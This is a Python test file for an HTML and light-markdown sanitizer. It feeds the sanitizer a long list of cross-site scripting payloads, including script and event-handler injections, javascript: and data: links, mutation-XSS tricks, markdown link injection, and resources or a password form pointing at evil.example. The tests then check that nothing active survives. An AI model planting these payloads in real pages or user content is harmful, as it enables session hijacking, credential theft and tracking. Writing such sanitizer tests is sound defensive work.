from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generation.llm_tools.sanitize import TAGS, attribute_value, inline_markdown, is_safe_link, sanitize

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script></script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<style>body{background:url(https://evil.example/t.gif)}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=https://evil.example/x.swf>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='javascript:1'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='http://plain.example'>x</a>",
    "<a href='https://good.example@evil.example'>x</a>",
    "<a href='https://{{ host }}.example'>x</a>",
    "<a href='{{ evil }}'>x</a>",
    "<a href='{{ unsubscribe_url }}//evil.example'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) style='position:fixed' target=_top>x</a>",
    "<p onmouseover=alert(1) style='background:url(https://evil.example)'>x</p>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password><button>Send</button></form>",
    "<body background=https://evil.example/x.gif onload=alert(1)>",
    "<table background=https://evil.example/x.gif><tr><td>x</td></tr></table>",
    "<video src=https://evil.example/x.mp4 onerror=alert(1)></video>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</p></td></table></body></html><script>alert(1)</script>",
    "<a\u200b href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    '[x](https://evil.example" onmouseover="alert(1))',
    "![x](https://evil.example/pixel.gif)",
    "<https://evil.example/>",
    "[x]: javascript:alert(1)\n\n[x]",
    "]]><script>alert(1)</script>",
    "</mj-text><mj-raw><script>alert(1)</script></mj-raw>",
    "[[body]][[unsubscribe_url]]",
]


class Reader(HTMLParser):
    """Notes what a browser would act on."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("clean", [sanitize, inline_markdown])
def test_nothing_that_acts_survives(payload, clean):
    reader = read(clean(f"before {payload} after"))

    assert set(reader.tags) <= TAGS
    assert {(tag, name) for tag, name, _value in reader.attributes} <= {("a", "href"), ("ol", "start")}
    assert all(is_safe_link(value) for tag, _name, value in reader.attributes if tag == "a")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaning_a_payload_twice_changes_nothing(payload):
    assert sanitize(sanitize(payload)) == sanitize(payload)


markup = st.lists(
    st.sampled_from(
        [
            "<p>",
            "</p>",
            "<a href='https://a.example'>",
            "<a href=x>",
            "</a>",
            "<ul>",
            "<li>",
            "</ul>",
            "<script>",
            "</script>",
            "<style>",
            "<!--",
            "-->",
            "<",
            ">",
            "&lt;",
            "&amp;",
            "&",
            "&nbsp;",
            "\xa0",
            '"',
            "'",
            "<br>",
            "<b",
            "<i>",
            "</b>",
            "<h2>",
            "<blockquote>",
            "{{ a }}",
            "<svg>",
            "</svg>",
            "<table>",
            "<td>",
            "\u200b",
            "x ",
            "\n",
        ]
    )
).map("".join)


@settings(deadline=None)
@given(st.one_of(st.text(), markup))
def test_cleaning_twice_gives_what_cleaning_once_gives(html):
    once = sanitize(html)

    assert sanitize(once) == once
    assert set(read(once).tags) <= TAGS


@settings(deadline=None)
@given(st.one_of(st.text(), markup, st.text(alphabet="*_[]()-1. \n{}ab|:")))
def test_light_markdown_is_always_clean(text):
    html = inline_markdown(text)

    assert sanitize(html) == html


@pytest.mark.parametrize(
    "url",
    [
        "https://northwind.example/spring?a=1&b=2#top",
        "mailto:hello@northwind.example",
        "tel:+15035550142",
        "https://northwind.example/{{ first_name }}",
        "{{ unsubscribe_url }}",
    ],
)
def test_links_to_somewhere_stay(url):
    assert is_safe_link(url)
    assert read(sanitize(f'<a href="{attribute_value(url)}">x</a>')).attributes == [("a", "href", url)]


def test_code_between_tags_goes_with_them():
    assert sanitize("a<script>alert(1)</script>b<style>p{}</style>c") == "abc"


def test_light_markdown_has_its_few_forms():
    html = inline_markdown(
        "**Bold** and *soft*\nnext [page](https://a.example)\n\n- one\n- two\n\n3. three\n\n# no head"
    )

    assert html.replace("\n", "") == (
        '<p><strong>Bold</strong> and <em>soft</em><br>next <a href="https://a.example">page</a></p>'
        '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol><p># no head</p>'
    )


def test_merge_tags_come_through_as_they_stand():
    html = inline_markdown(
        'Hi *{{ first_name | default: "you & me" }}* [x](https://a.example/?n={{ id | default: "a" }})'
    )

    assert '{{ first_name | default: "you &amp; me" }}' in html
    assert "href=\"https://a.example/?n={{ id | default: 'a' }}\"" in html
